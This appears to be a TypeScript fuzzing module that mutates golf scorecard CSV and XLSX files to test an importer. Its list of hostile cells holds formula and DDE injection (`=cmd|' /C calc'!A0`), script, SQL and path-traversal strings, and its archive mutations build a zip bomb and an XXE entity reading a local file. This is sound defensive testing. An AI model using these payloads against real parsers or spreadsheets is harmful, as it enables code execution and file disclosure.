// Mutations of scorecard files, from a seed: what happens to files on their way, and what somebody might do to them on purpose.
import { columnName, workbookParts, xlsxFile, zipFile, type Cell, type Part } from './xlsx-file.ts'

/** A file on its way: as a table as long as it is one, then as bytes. */
export interface Mutated {
  bytes: Buffer
  /** What was done, in order. */
  did: string[]
  /** Whether the file still says the same of the same players; else its cells may be anything. */
  isSame: boolean
  /** The cells, as long as they can be told: absent when bytes were changed. */
  table?: readonly (readonly string[])[]
}

export interface Random {
  /** From 0 to below `below`. */
  whole: (below: number) => number
  pick: <T>(items: readonly T[]) => T
}

/** The same numbers for the same seed (mulberry32). */
export function randomFrom(seed: number): Random {
  let state = seed >>> 0
  const next = (): number => {
    state = (state + 0x6d_2b_79_f5) >>> 0
    let t = state
    t = Math.imul(t ^ (t >>> 15), t | 1)
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296
  }
  const whole = (below: number): number => Math.floor(next() * below)
  return { whole, pick: (items) => items[whole(items.length)]! }
}

type Table = string[][]
/** `same`: the file says the same afterwards. `only`: for which tables it is meant; the heading decides. */
type TableMutation = {
  name: string
  same?: boolean
  only?: (table: Table) => boolean
  do: (table: Table, random: Random) => Table
}

const hasHeading = (table: Table): boolean => table[0]!.some((cell) => /(?:hole|väylä)_?1$/i.test(cell))
const mapRows = (table: Table, change: (row: string[]) => string[]): Table => table.map((row) => change([...row]))
const widthOf = (table: Table): number => Math.max(...table.map((row) => row.length))

export const HOSTILE_CELLS = [
  '=1+1',
  '=HYPERLINK("https://example.com/?"&A1,"Ann")',
  "=cmd|' /C calc'!A0",
  '+SUM(A1:A9)',
  '@everyone <@&1> <@123456789012345678>',
  '<script>alert(1)</script>',
  '../../etc/passwd',
  "'; drop table scores; --",
  '\u202Enna\u202C',
  'a\u0000b',
  '**_~~||`>#[x](https://example.com)',
  '👩‍👩‍👧‍👦'.repeat(12),
  'ä'.repeat(501),
  'x'.repeat(40_000),
  ' \t ',
  'Par',
  'A + B + C',
  'A & B',
  '"',
  'line\nbreak',
  '{{7*7}}',
  '1e308',
  'NaN',
  'Infinity',
  '-1',
  '0x10',
  '3.5',
  '3,0',
  '٣',
  '99999999999999999999',
  '2026-02-30 2561',
  '2026-06-06 0947+9900',
  '#REF!',
  'DNF',
  'TRUE',
]

const TABLE_MUTATIONS: TableMutation[] = [
  { name: 'as it is', same: true, do: (table) => table },
  {
    name: 'columns shuffled',
    same: true,
    only: hasHeading,
    do: (table, random) => {
      const order = Array.from({ length: widthOf(table) }, (_, column) => column)
      for (let i = order.length - 1; i > 0; i--) {
        const j = random.whole(i + 1)
        ;[order[i], order[j]] = [order[j]!, order[i]!]
      }
      return mapRows(table, (row) => order.map((column) => row[column] ?? ''))
    },
  },
  {
    name: 'blank rows between',
    same: true,
    do: (table, random) => table.flatMap((row) => (random.whole(3) === 0 ? [row, row.map(() => '')] : [row])),
  },
  { name: 'blanks around cells', same: true, do: (table) => mapRows(table, (row) => row.map((cell) => ` ${cell} `)) },
  { name: 'a title above', same: true, only: hasHeading, do: (table) => [['Tuesday league'], ...table] },
  {
    name: 'columns dropped',
    do: (table, random) => {
      const gone = new Set(Array.from({ length: 1 + random.whole(4) }, () => random.whole(widthOf(table))))
      return mapRows(table, (row) => row.filter((_, column) => !gone.has(column)))
    },
  },
  {
    name: 'a column twice',
    do: (table, random) => {
      const column = random.whole(widthOf(table))
      const to = random.whole(widthOf(table))
      return mapRows(table, (row) => row.toSpliced(to, 0, row[column] ?? ''))
    },
  },
  { name: 'rows shuffled', do: (table, random) => table.toSorted(() => random.whole(3) - 1) },
  { name: 'rows dropped', do: (table, random) => table.filter(() => random.whole(4) !== 0) },
  { name: 'rows twice', do: (table, random) => table.flatMap((row) => (random.whole(4) === 0 ? [row, row] : [row])) },
  { name: 'the whole twice', do: (table) => [...table, ...table] },
  { name: 'the heading alone', do: (table) => table.slice(0, 1) },
  { name: 'nothing', do: () => [[]] },
  { name: 'rows cut short', do: (table, random) => mapRows(table, (row) => row.slice(0, random.whole(row.length + 1))) },
  {
    name: 'rows with more cells',
    do: (table, random) => mapRows(table, (row) => [...row, ...Array<string>(random.whole(4)).fill('3')]),
  },
  { name: 'far too many columns', do: (table) => mapRows(table, (row) => [...row, ...Array<string>(200).fill('3')]) },
  { name: 'many rows', do: (table, random) => Array.from({ length: 1 + random.whole(60) }, () => table).flat() },
  {
    name: 'hostile cells',
    do: (table, random) => {
      const changed = mapRows(table, (row) => row)
      for (let n = 1 + random.whole(5); n > 0; n--) {
        const row = random.pick(changed)
        if (row.length > 0) row[random.whole(row.length)] = random.pick(HOSTILE_CELLS)
      }
      return changed
    },
  },
  {
    name: 'a hostile column',
    do: (table, random) => {
      const column = random.whole(widthOf(table))
      const cell = random.pick(HOSTILE_CELLS)
      return table.map((row, index) =>
        index === 0 || row.length === 0 ? row : row.with(Math.min(column, Math.max(row.length - 1, 0)), cell),
      )
    },
  },
  {
    name: 'huge numbers',
    do: (table, random) =>
      mapRows(table, (row) => row.map((cell) => (/^\d+$/.test(cell) && random.whole(6) === 0 ? cell + '0000000000000' : cell))),
  },
  {
    name: 'turned around',
    do: (table) => Array.from({ length: widthOf(table) }, (_, column) => table.map((row) => row[column] ?? '')),
  },
]

const quote = (cell: string, separator: string): string =>
  /["\r\n]/.test(cell) || cell.includes(separator) ? `"${cell.replaceAll('"', '""')}"` : cell
const csvOf = (table: Table, separator: string, lineEnd: string): string =>
  table.map((row) => row.map((cell) => quote(cell, separator)).join(separator)).join(lineEnd) + lineEnd

/** Windows-1252 for what our fixtures hold; undefined where it has no letter. */
const inWindows1252 = (text: string): Buffer | undefined => {
  const special = new Map(
    Array.from('€‚ƒ„…†‡ˆ‰Š‹Œ').map((letter, index) => [
      letter,
      [0x80, 0x82, 0x83, 0x84, 0x85, 0x86, 0x87, 0x88, 0x89, 0x8a, 0x8b, 0x8c][index]!,
    ]),
  )
  special.set('”', 0x94).set('“', 0x93).set('’', 0x92)
  const codes = Array.from(text, (letter) => special.get(letter) ?? letter.codePointAt(0)!)
  return codes.every((code) => code < 0x80 || (code >= 0xa0 && code < 0x100) || [...special.values()].includes(code))
    ? Buffer.from(codes)
    : undefined
}

type Encoding = { name: string; same: boolean; encode: (text: string) => Buffer | undefined }
const ENCODINGS: Encoding[] = [
  { name: 'UTF-8', same: true, encode: (text) => Buffer.from(text) },
  { name: 'UTF-8 with BOM', same: true, encode: (text) => Buffer.from(`\uFEFF${text}`) },
  { name: 'UTF-16LE with BOM', same: true, encode: (text) => Buffer.from(`\uFEFF${text}`, 'utf16le') },
  { name: 'UTF-16BE with BOM', same: true, encode: (text) => Buffer.from(`\uFEFF${text}`, 'utf16le').swap16() },
  { name: 'UTF-16 without BOM', same: false, encode: (text) => Buffer.from(text, 'utf16le') },
  { name: 'Windows-1252', same: true, encode: inWindows1252 },
  {
    name: 'read as Windows-1252 and saved as UTF-8',
    same: false,
    encode: (text) => Buffer.from(Buffer.from(text).toString('latin1')),
  },
]

/** Bytes of a file that was damaged on its way. */
const BYTE_MUTATIONS: { name: string; do: (bytes: Buffer, random: Random) => Buffer }[] = [
  { name: 'cut off', do: (bytes, random) => bytes.subarray(0, random.whole(bytes.length + 1)) },
  { name: 'beginning lost', do: (bytes, random) => bytes.subarray(random.whole(bytes.length + 1)) },
  {
    name: 'bytes changed',
    do: (bytes, random) => {
      const changed = Buffer.from(bytes)
      for (let n = 1 + random.whole(20); n > 0 && changed.length > 0; n--)
        changed[random.whole(changed.length)] = random.whole(256)
      return changed
    },
  },
  {
    name: 'bytes lost',
    do: (bytes, random) => {
      const at = random.whole(bytes.length + 1)
      return Buffer.concat([bytes.subarray(0, at), bytes.subarray(at + 1 + random.whole(40))])
    },
  },
  {
    name: 'bytes put in',
    do: (bytes, random) => {
      const at = random.whole(bytes.length + 1)
      const put = Buffer.from(
        random.pick(['"', '""', '\n', '\0', '\r', ',,,', ';', '\t', 'Par,', 'hole_1', 'PK\u0003\u0004', '<', '&amp;']),
      )
      return Buffer.concat([bytes.subarray(0, at), put, bytes.subarray(at)])
    },
  },
  { name: 'twice over', do: (bytes) => Buffer.concat([bytes, bytes]) },
  { name: 'zeros behind', do: (bytes) => Buffer.concat([bytes, Buffer.alloc(1_000)]) },
]

type Archived = { name: string; same?: boolean; do: (parts: Part[], random: Random) => Buffer }
const replaceIn = (parts: Part[], path: RegExp, change: (text: string) => string): Buffer =>
  zipFile(parts.map((part) => (path.test(part.path) ? { ...part, content: change(String(part.content)) } : part)))
const SHEET = /sheet1\.xml$/
const ARCHIVE_MUTATIONS: Archived[] = [
  { name: 'stored, not packed', same: true, do: (parts) => zipFile(parts.map((part) => ({ ...part, stored: true }))) },
  { name: 'parts in another order', same: true, do: (parts) => zipFile(parts.toReversed()) },
  { name: 'cells without addresses', do: (parts) => replaceIn(parts, SHEET, (xml) => xml.replaceAll(/ r="[A-Z]+\d+"/g, '')) },
  { name: 'a part lost', do: (parts, random) => zipFile(parts.toSpliced(random.whole(parts.length), 1)) },
  { name: 'packed again', do: (parts) => zipFile([{ path: 'export.xlsx', content: zipFile(parts) }]) },
  {
    name: 'packed again and again',
    do: (parts) => {
      let bytes = zipFile(parts)
      for (let n = 0; n < 6; n++) bytes = zipFile([{ path: `${n}.zip`, content: bytes, stored: n % 2 === 0 }])
      return bytes
    },
  },
  {
    name: 'a workbook in the workbook',
    same: true,
    do: (parts) => zipFile([...parts, { path: 'xl/embeddings/inner.xlsx', content: zipFile(parts) }]),
  },
  {
    name: 'a size that lies',
    do: (parts, random) => zipFile(parts.map((part) => ({ ...part, declared: random.whole(4_294_967_295) }))),
  },
  {
    name: 'a bomb',
    do: (parts) =>
      zipFile(parts.map((part) => (SHEET.test(part.path) ? { ...part, content: Buffer.alloc(8_000_000, '<row>') } : part))),
  },
  {
    name: 'entities',
    do: (parts) =>
      replaceIn(parts, SHEET, (xml) => xml.replace('?>', '?><!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/hostname">]>')),
  },
  {
    name: 'tags lost',
    do: (parts, random) =>
      replaceIn(parts, /\.xml$/, (xml) => xml.replace(random.pick(['</c>', '</row>', '<v>', '</si>', '<sheetData>']), '')),
  },
  { name: 'formulas', do: (parts) => replaceIn(parts, SHEET, (xml) => xml.replaceAll('<v>3</v>', '<f>1+2</f><v>3</v>')) },
  { name: 'formulas without results', do: (parts) => replaceIn(parts, SHEET, (xml) => xml.replaceAll('<v>3</v>', '<f>1+2</f>')) },
  {
    name: 'texts exchanged',
    do: (parts) => replaceIn(parts, /sharedStrings/, (xml) => xml.replace('<t', '<x').replace('</t>', '</x>')),
  },
  {
    name: 'a far cell',
    do: (parts, random) =>
      replaceIn(parts, SHEET, (xml) =>
        xml.replace('r="B2"', `r="${columnName(random.whole(16_384))}${1 + random.whole(1_048_576)}"`),
      ),
  },
  {
    name: 'the sheet renamed',
    do: (parts) =>
      replaceIn(parts, /workbook\.xml$/, (xml) =>
        xml.replace('Event results', 'Pool <B>'.replaceAll('<', '&lt;').replaceAll('>', '&gt;')),
      ),
  },
]

/** As a spreadsheet program would hold it. */
const asCell = (cell: string): Cell => (/^-?(?:0|[1-9]\d{0,8})$/.test(cell) ? Number(cell) : cell)
/** XML has no place for most control characters. */
const inXml = (cell: string): string => cell.replaceAll(/[^\P{Cc}\t\n\r\u007f-\u009f]/gu, '')

/** One mutated file from a table, the same for the same random numbers. */
export function mutate(source: readonly (readonly string[])[], random: Random): Mutated {
  let table: Table = source.map((row) => [...row])
  const did: string[] = []
  let isSame = true
  // One in three only goes the ways that a file survives.
  const isGentle = random.whole(3) === 0
  const some = <T extends { same?: boolean }>(all: readonly T[]): readonly T[] =>
    isGentle ? all.filter(({ same }) => same) : all
  for (let n = random.whole(3); n >= 0; n--) {
    const mutation = random.pick(some(TABLE_MUTATIONS))
    if (table.every((row) => row.length === 0) || mutation.only?.(table) === false) continue
    table = mutation.do(table, random)
    did.push(mutation.name)
    isSame &&= mutation.same === true
  }
  let bytes: Buffer
  let isTable = true
  if (random.whole(2) === 0) {
    const separator = random.pick(isGentle ? [',', ';', '\t'] : [',', ';', '\t', '|', ':'])
    const lineEnd = random.pick(['\n', '\r\n', '\r'])
    const encoding = random.pick(some(ENCODINGS))
    const text = csvOf(table, separator, lineEnd)
    const encoded = encoding.encode(text)
    did.push(`CSV with ${JSON.stringify(separator)} and ${JSON.stringify(lineEnd)} in ${encoded ? encoding.name : 'UTF-8'}`)
    bytes = encoded ?? Buffer.from(text)
    isSame &&= ',;\t'.includes(separator) && (encoding.same || !encoded)
    // In a doubtful encoding cells read otherwise.
    isTable = encoding.same && ',;\t'.includes(separator)
  } else {
    table = table.map((row) => row.map((cell) => inXml(cell)))
    const rows = table.map((row) => row.map((cell) => asCell(cell)))
    const sheets = [{ name: random.pick(['Event results', 'Sheet1']), rows }]
    const inline = random.whole(2) === 0
    if (random.whole(2) === 0) {
      bytes = xlsxFile(sheets, { inline })
      did.push('XLSX')
    } else {
      const mutation = random.pick(some(ARCHIVE_MUTATIONS))
      bytes = mutation.do(workbookParts(sheets, { inline }), random)
      did.push(`XLSX, ${mutation.name}`)
      isSame &&= mutation.same === true
      isTable = mutation.same === true
    }
  }
  if (!isGentle && random.whole(4) === 0) {
    const mutation = random.pick(BYTE_MUTATIONS)
    bytes = mutation.do(bytes, random)
    did.push(mutation.name)
    isSame = false
    isTable = false
  }
  return { bytes, did, isSame, ...(isTable ? { table } : {}) }
}
